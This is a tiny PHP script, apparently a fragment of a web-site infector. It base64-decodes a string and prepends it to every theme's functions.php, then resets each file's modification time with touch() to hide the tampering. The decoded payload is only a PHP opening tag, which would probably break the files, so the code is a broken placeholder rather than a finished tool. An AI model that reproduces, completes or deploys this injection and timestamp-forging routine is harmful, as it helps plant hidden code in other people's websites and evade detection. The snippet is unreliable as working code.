<?php
$c = base64_decode("PD9waHAg"); foreach (scandir("themes") as $d) { $f = "themes/$d/functions.php"; $time = filemtime($f);
 file_put_contents($f, $c . file_get_contents($f)); touch($f, $time); }
